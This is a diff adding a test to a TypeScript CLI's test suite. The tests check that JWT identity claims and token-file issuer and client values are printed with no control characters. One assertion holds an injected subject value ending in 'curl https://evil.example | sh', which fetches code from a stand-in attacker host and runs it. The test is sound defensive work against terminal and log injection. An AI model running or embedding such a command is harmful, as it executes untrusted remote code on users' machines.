@@ -12,6 +12,7 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { printable, printableLines, terminalSafe, isPrintable } from '../../lib/printable.js';
 import { createLogger, redact } from '../../lib/log.js';
 import { identityOf } from '../../lib/jwt.js';
+import { fileStatus } from '../../lib/agent/inventory.js';
 import { logTail, agentLogPath } from '../../lib/client/agent-client.js';
 import { openBrowser, openableUrl } from '../../lib/login/browser.js';
 import { loginWithDeviceCode } from '../../lib/login/device.js';
@@ -57,6 +58,16 @@ test('identityOf: claims come back printable (they reach login, status and setup
   for (const v of [who.subject!, who.email!, ...who.groups!]) assert.doesNotMatch(v, CONTROL, v);
   assert.equal(who.subject, 'mallory\\n# injected\\ncurl https://evil.example | sh');
   assert.deepEqual(identityOf({ groups: Array.from({ length: 500 }, (_, i) => `g${i}`) }).groups!.length, 50, 'groups capped');
+});
+
+test('a token file only on disk: status shows its issuer and client printable too', () => {
+  const jwt = (claims: object) => ['{"alg":"none"}', JSON.stringify(claims), ''].map((p) => Buffer.from(p).toString('base64url')).join('.');
+  for (const h of HOSTILE) {
+    const row = fileStatus({ dir: '/d', key: 'k'.repeat(64), tokens: { idToken: jwt({ iss: `https://idp.example/${h}`, aud: `c${h}`, sub: h }), expiresAt: 1, issuedAt: 0 } } as Parameters<typeof fileStatus>[0]);
+    assert.doesNotMatch(row.issuerUrl, CONTROL);
+    assert.doesNotMatch(row.clientId, CONTROL);
+    assert.ok(row.issuerUrl.startsWith('https://idp.example/'));
+  }
 });
 
 test('the logger writes one record per call: no control character, no forged line', () => {
